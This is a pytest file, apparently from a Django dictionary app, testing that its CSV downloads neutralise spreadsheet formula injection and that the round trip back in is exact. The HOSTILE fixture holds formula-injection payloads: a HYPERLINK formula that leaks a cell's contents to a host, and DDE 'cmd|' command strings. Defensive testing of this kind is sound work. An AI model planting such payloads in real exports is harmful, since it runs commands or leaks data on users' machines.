"""The CSV downloads in a spreadsheet: no cell runs as a formula, Latvian Excel splits the columns,
and what the export adds against formulas the import takes away again (the round trip is exact).

Read with Python's csv module and with LibreOffice Calc (Debian's headless build), which evaluates
formulas in CSV files as Excel does.
"""

import csv
import io
import os
import shutil
import subprocess
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from dictionary.exchange import csv_format, tbx_format
from dictionary.models import SubjectField, Term
from tests.dictionary.conftest import make_term, relate
from tests.dictionary.test_exchange import export, import_file, snapshot

pytestmark = pytest.mark.django_db

# OWASP's list (CSV Injection): a cell starting with one of these is read as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "headword": '=HYPERLINK("http://127.0.0.1/?leak="&A2,"spied")',
    "definition": "+1+cmd|' /C calc'!A0",
    "definition_en": "-2+3",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes_en": "'=quoted already",
    "source": "-",
    "source_page": "=1",
}


@pytest.fixture
def hostile(dictionary):
    field = SubjectField.objects.create(name="=1+1 lauks")
    term = make_term(
        HOSTILE["headword"],
        HOSTILE["definition"],
        equivalents=["@risk", "ok"],
        synonyms=["+sinonīms"],
        definition_en=HOSTILE["definition_en"],
        notes=HOSTILE["notes"],
        notes_en=HOSTILE["notes_en"],
        examples="=2+2 piemērs\nOtrais.",
        source=HOSTILE["source"],
        source_page=HOSTILE["source_page"],
        subject_field=field,
    )
    other = make_term("'s apostrofs", "Sākas ar apostrofu, bet nav formula.")
    minus = make_term("-fobija", "Piedēklis: bailes.")
    relate(other, minus, term)
    make_term("melnraksts", "''=2 divi apostrofi.", approved=False)
    return term


def rows_of(data, delimiter=","):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_no_cell_of_the_public_downloads_starts_a_formula(client, hostile):
    for url, delimiter in (
        ("/lv/vardnica/lejupielade/csv/", ","),
        ("/lv/vardnica/lejupielade/csv-excel/", ";"),
        ("/en/dictionary/download/csv-excel/", ";"),
    ):
        response = client.get(url)
        assert response.status_code == 200
        rows = rows_of(response.content, delimiter)
        assert rows[0] == csv_format.COLUMNS
        cells = [cell for row in rows[1:] for cell in row]
        assert len(rows) == 4 and cells
        assert not [cell for cell in cells if cell.startswith(TRIGGERS)], url
        by_headword = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
        row = by_headword["'" + HOSTILE["headword"]]
        assert row["definition"] == "'" + HOSTILE["definition"]
        assert row["definition_en"] == "'-2+3"
        assert row["notes"] == "'" + HOSTILE["notes"]
        # A value that starts with an apostrophe before a formula gets one more, so the
        # import can take exactly one away; other apostrophes are the text's own.
        assert row["notes_en"] == "''=quoted already"
        assert row["source"] == "'-" and row["source_page"] == "'=1"
        assert row["equivalents"] == "'@risk; ok"
        assert row["synonyms"] == "'+sinonīms"
        assert row["examples"] == "'=2+2 piemērs\nOtrais."
        assert row["subject_field"] == "'=1+1 lauks"
        assert by_headword["'-fobija"]["definition"] == "Piedēklis: bailes."
        assert by_headword["'s apostrofs"]["related"] == "'-fobija; " + HOSTILE["headword"]
        assert "'s apostrofs" in by_headword  # not a formula: left alone


@pytest.mark.parametrize("file_format", ["csv", "csv-excel"])
def test_the_csv_round_trip_stays_exact(hostile, tmp_path, file_format):
    before = snapshot()
    path = export(tmp_path, file_format, "--drafts")
    data = path.read_bytes()
    Term.objects.all().delete()
    SubjectField.objects.all().delete()
    output, _ = import_file(path)
    assert "4 created" in output
    assert snapshot() == before
    assert Term.objects.get(headword=HOSTILE["headword"]).notes_en == "'=quoted already"
    assert Term.objects.get(headword="melnraksts").definition == "''=2 divi apostrofi."
    assert export(tmp_path, file_format, "--drafts").read_bytes() == data


def test_the_tbx_export_carries_the_text_unchanged(hostile, tmp_path):
    document = etree.fromstring(export(tmp_path, "tbx").read_bytes())
    terms = document.xpath("//t:term/text()", namespaces={"t": tbx_format.NS})
    assert HOSTILE["headword"] in terms and "-fobija" in terms
    assert not [term for term in terms if term.startswith("'=")]


def test_a_file_typed_by_hand_may_quote_formulas_with_an_apostrophe(dictionary, tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text(
        "headword;definition;equivalents\n'-logija;'=zinātne;\"'@x; y\"\n's;'s definīcija;\n",
        encoding="utf-8",
    )
    import_file(path)
    logy = Term.objects.get(headword="-logija")
    assert logy.definition == "=zinātne"
    assert logy.equivalent_list == ["@x", "y"]
    assert Term.objects.get(headword="'s").definition == "'s definīcija"


def test_the_excel_file_is_what_excel_in_latvian_settings_opens(client, hostile):
    """Excel splits a double-clicked .csv at the list separator of the Windows regional
    settings, which is ";" for Latvian (the decimal separator being ","), and reads it as
    UTF-8 only after a byte-order mark."""
    response = client.get("/lv/vardnica/lejupielade/csv-excel/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="vardnica-excel.csv"'
    data = response.content
    assert data.startswith(b"\xef\xbb\xbfheadword;equivalents;synonyms;part_of_speech;")
    assert b"sep=" not in data.splitlines()[0]  # Excel ignores the BOM after a sep= line
    lines = data.split(b"\r\n")
    assert lines[-1] == b""  # every record ends with CRLF
    # The comma form for programs stays as it was.
    comma = client.get("/lv/vardnica/lejupielade/csv/").content
    assert comma.startswith(b"\xef\xbb\xbfheadword,equivalents,synonyms,")
    assert rows_of(comma) == rows_of(data, ";")
    page = client.get("/lv/vardnica/").text
    assert 'href="/lv/vardnica/lejupielade/csv-excel/"' in page
    assert "Excel" in page


@given(st.text(max_size=30))
def test_neutralising_is_undone_exactly(value):
    written = csv_format.neutralise(value)
    assert not written.startswith(TRIGGERS)
    assert csv_format.restore(written) == value
    # A line feed first is escaped too (a cell starting with one hides its content in Calc).
    if not value.startswith(("'", "\n", *TRIGGERS)):
        assert written == value


SOFFICE = shutil.which("soffice")


def calc_cells(path, tmp_path, separator):
    """Every cell of `path` as LibreOffice Calc imports it: (text, is_formula) per cell."""
    filters = f"CSV:{ord(separator)},34,76,1"  # separator, ", UTF-8, from line 1
    result = subprocess.run(
        [
            SOFFICE or "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            f"--infilter={filters}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    converted = tmp_path / (path.stem + ".xlsx")
    assert converted.exists(), result.stderr
    with zipfile.ZipFile(converted) as archive:
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        strings = etree.fromstring(archive.read("xl/sharedStrings.xml"))
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    shared = ["".join(si.itertext()) for si in strings.iterfind("x:si", ns)]
    cells = []
    for cell in sheet.iterfind(".//x:c", ns):
        formula = cell.find("x:f", ns) is not None
        value = cell.findtext("x:v", namespaces=ns)
        if cell.get("t") == "s":
            value = shared[int(value)]
        cells.append((value, formula))
    return cells


@pytest.mark.skipif(
    not SOFFICE and not os.environ.get("CI"), reason="LibreOffice (Debian) is not installed"
)
def test_libreoffice_runs_no_formula_from_the_downloads(client, hostile, tmp_path):
    raw = tmp_path / "raw.csv"
    raw.write_text('headword,definition\n"=1+1",=SUM(2;3)\n', encoding="utf-8")
    # The check can fail: Calc does evaluate a formula in a CSV file left as it was.
    assert any(formula for _value, formula in calc_cells(raw, tmp_path, ","))

    for name, separator in (("csv", ","), ("csv-excel", ";")):
        path = tmp_path / f"{name}.csv"
        path.write_bytes(client.get(f"/lv/vardnica/lejupielade/{name}/").content)
        cells = calc_cells(path, tmp_path, separator)
        assert not [value for value, formula in cells if formula], name
        texts = [value for value, _formula in cells]
        assert texts[: len(csv_format.COLUMNS)] == csv_format.COLUMNS, name
        assert "'" + HOSTILE["headword"] in texts
